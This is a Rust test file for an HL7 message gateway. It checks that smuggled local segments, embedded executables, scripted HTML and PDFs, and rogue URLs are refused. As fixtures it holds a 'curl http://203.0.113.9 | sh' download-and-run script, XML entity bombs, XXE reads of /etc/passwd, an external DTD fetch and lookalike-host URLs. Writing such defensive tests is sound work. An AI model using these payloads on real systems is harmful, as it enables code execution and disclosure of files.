//! Attacks inside of fields: local segments, documents and markup that carry something else than a result.

use e2e::{Clinic, Lab, hl7};

use super::{arrives, changed, note, refused};

/// An ORU^R01 whose observation is this value of this type.
fn observed(control: &str, kind: &str, value: &str) -> Vec<u8> {
    changed(
        control,
        "OBX|1|NM|8867-4^Heart rate^LN||72|/min^per minute^UCUM|60-100|N|||F",
        &format!("OBX|1|{kind}|11524-6^EKG study^LN||{value}||||||F"),
    )
}

/// A document as ED holds it, declared as something harmless.
fn document(control: &str, bytes: &[u8]) -> Vec<u8> {
    observed(control, "ED", &format!("^AP^^Base64^{}", base64(bytes)))
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for three in bytes.chunks(3) {
        let bits = three
            .iter()
            .fold(0, |bits, byte| bits << 8 | usize::from(*byte));
        let bits = bits << (8 * (3 - three.len()));
        for place in 0..4 {
            let digit = char::from(DIGITS[bits >> (18 - 6 * place) & 63]);
            text.push(if place <= three.len() { digit } else { '=' });
        }
    }
    text
}

#[test]
fn attack_16_local_segment_smuggling() {
    let with =
        |control: &str, segment: &str| [&hl7::oru(control)[..], segment.as_bytes(), b"\r"].concat();
    let long = format!("ZEC|1|{}", "a".repeat(200));
    Lab::run(|lab| {
        let clinic = Clinic::open_with(lab, |site| {
            site.replace(
                "hl7 = { send = [\"ORU^R01\"",
                "hl7 = { local_segments = { ZEC = 100 }, send = [\"ORU^R01\"",
            );
        });
        refused(
            &clinic,
            &[
                ("not listed", with("Z1", "ZPW|1"), "AR 100 ZPW^1"),
                ("listed and too long", with("Z2", &long), "AR 100 ZEC^1"),
                (
                    "behind one that is listed",
                    with("Z3", "ZEC|1\rZED|TVqQ"),
                    "AR 100 ZED^1",
                ),
                (
                    "no local segment by its name, and none of HL7",
                    with("Z4", "YEC|1"),
                    "AR 100 YEC^1",
                ),
            ],
        );
        arrives(&clinic, &[("listed", with("Z5", "ZEC|1|25 mm/s"))]);
    });
}

const PDF: &[u8] = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n";
const ACTING: &[u8] =
    b"%PDF-1.4\n1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj\n%%EOF\n";

#[test]
fn attack_17_documents_and_pointers() {
    let program = [&b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0"[..], &[0; 96]].concat();
    let elf = [&b"\x7fELF\x02\x01\x01"[..], &[0; 57]].concat();
    let large = [PDF, &vec![b' '; 80 << 10], b"\n%%EOF\n"].concat();
    let text = |control: &str, bytes: &[u8]| observed(control, "TX", &base64(bytes));
    Lab::run(|lab| {
        let clinic = Clinic::open_with(lab, |site| {
            site.replace(
                "hl7 = { send = [\"ORU^R01\"",
                "hl7 = { embedded = { hosts = [\"pacs.example.org\"] }, send = [\"ORU^R01\"",
            );
            site.replace("[limits]", "[limits]\nhl7_embedded = \"64KiB\"");
        });
        let (at, inside) = ("AE 102 OBX^1^5^1", "AE 102 OBX^1^5^1^5");
        refused(
            &clinic,
            &[
                ("a program for Windows", document("E1", &program), inside),
                ("a program for Linux", document("E2", &elf), inside),
                (
                    "an archive",
                    document("E3", b"PK\x03\x04\x14\0\0\0\x08\0aaaaaaaaaaaaaaaaaaaa"),
                    inside,
                ),
                (
                    "a page",
                    document("E4", b"<!DOCTYPE html><html><script>x</script></html>"),
                    inside,
                ),
                (
                    "a script",
                    document("E5", b"#!/bin/sh\ncurl http://203.0.113.9 | sh\n"),
                    inside,
                ),
                ("a PDF with a script", document("E6", ACTING), inside),
                ("a program as text", text("E7", &program), at),
                (
                    "no Base64",
                    observed("E8", "ED", "^AP^^Base64^JVBE*i0xLjQK"),
                    inside,
                ),
                (
                    "another encoding",
                    observed("E9", "ED", "^AP^^Base63^JVBERi0xLjQK"),
                    "AE 102 OBX^1^5^1^4",
                ),
                ("too large a PDF", document("E10", &large), inside),
                (
                    "a pointer to elsewhere",
                    observed("E11", "RP", "http://203.0.113.9/x^^AP^"),
                    at,
                ),
                (
                    "to a host that looks like ours",
                    observed("E12", "RP", "https://pacs.example.org.evil.net/x^^AP^"),
                    at,
                ),
                (
                    "to a host before an at sign",
                    observed("E13", "RP", "https://pacs.example.org@203.0.113.9/x^^AP^"),
                    at,
                ),
                (
                    "to a file",
                    observed("E14", "RP", "file:///etc/passwd^^AP^"),
                    at,
                ),
            ],
        );
        arrives(
            &clinic,
            &[
                ("a PDF", document("E15", PDF)),
                (
                    "a pointer to the host of the rule",
                    observed("E16", "RP", "https://pacs.example.org/x^^AP^"),
                ),
            ],
        );
    });
}

#[test]
fn attack_18_markup_with_entities() {
    let xml = |control: &str, text: &str| {
        let escaped = text
            .replace('\\', "\\E\\")
            .replace('&', "\\T\\")
            .replace('^', "\\S\\")
            .replace('~', "\\R\\");
        note(control, &escaped)
    };
    let bomb = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"ha\"><!ENTITY c \"&b;&b;&b;&b;\">]><a>&c;&c;</a>";
    let external = "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://203.0.113.9/a.dtd\"><a/>";
    let file =
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
    let body = "<title>ECG &amp; report</title>";
    let cda = |inner: &str| {
        format!(
            "<?xml version=\"1.0\"?><ClinicalDocument xmlns=\"urn:hl7-org:v3\">{inner}</ClinicalDocument>"
        )
    };
    let deep = format!("{}{}", "<a>".repeat(200), "</a>".repeat(200));
    Lab::run(|lab| {
        let clinic = Clinic::open(lab);
        let (at, inside) = ("AE 102 OBX^1^5^1", "AE 102 OBX^1^5^1^5");
        refused(
            &clinic,
            &[
                ("an entity bomb", xml("M1", bomb), at),
                ("an external type", xml("M2", external), at),
                ("a file as entity", xml("M3", file), at),
                ("inside of ED", document("M4", file.as_bytes()), inside),
                ("an entity that nobody declared", xml("M5", &cda("&x;")), at),
                ("too deep", xml("M6", &cda(&deep)), at),
                ("not closed", xml("M7", &cda("<title>")), at),
                ("two roots", xml("M8", &(cda(body) + "<script/>")), at),
                (
                    "in UTF-16",
                    document(
                        "M9",
                        &file
                            .encode_utf16()
                            .flat_map(u16::to_le_bytes)
                            .collect::<Vec<u8>>(),
                    ),
                    inside,
                ),
            ],
        );
        arrives(
            &clinic,
            &[
                ("a clinical document", xml("M10", &cda(body))),
                ("one inside of ED", document("M11", cda(body).as_bytes())),
            ],
        );
    });
}
